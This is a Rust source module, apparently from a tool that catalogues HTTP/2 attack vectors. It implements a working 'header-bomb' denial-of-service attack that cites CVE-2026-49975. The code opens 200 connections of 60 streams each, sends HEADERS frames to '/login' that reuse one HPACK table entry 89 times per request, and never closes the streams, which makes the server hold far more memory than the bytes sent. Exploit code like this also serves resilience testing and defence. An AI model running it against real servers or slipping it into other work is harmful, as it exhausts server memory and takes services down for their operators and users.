//! `header-bomb`: heads of many tiny fields, on streams that are never ended, each of which costs
//! far more memory than bytes

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{END_HEADERS, HEADERS, block, frame},
};

pub(super) const VECTOR: Vector = Vector {
    name: "header-bomb",
    family: Family::Http2,
    models: "heads of many tiny fields, on streams that are never ended, each of which costs \
        far more memory than bytes",
    source: "CVE-2026-49975, the HTTP/2 bomb (June 2026): 62 to 5,700 bytes held for a byte \
        sent; h2: 72 MB for 0.94 MB",
    parameters: "200 connections of 60 streams; POST with 90 fields, then silence",
    resource: Resource::Memory { connections: 200, held_bytes: 7_200_000 },
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner = Manner { connections: 200, settings: &[], salvo, counts_resets: true };

fn salvo(front: &Front, turn: u32) -> Option<Salvo> {
    if turn > 0 {
        return None;
    }
    let mut bytes = Vec::new();
    for place in 0..60_u32 {
        let mut head = block(false, "/login", &front.scene.host);
        // Remembered once, then named by one byte: the table makes the bomb.
        head.extend_from_slice(b"\x40\x01a\x01b");
        head.extend(std::iter::repeat_n(0xbe, 89));
        bytes.extend(frame(HEADERS, END_HEADERS, place * 2 + 1, &head));
    }
    Some(Salvo { bytes, offers: 60 })
}
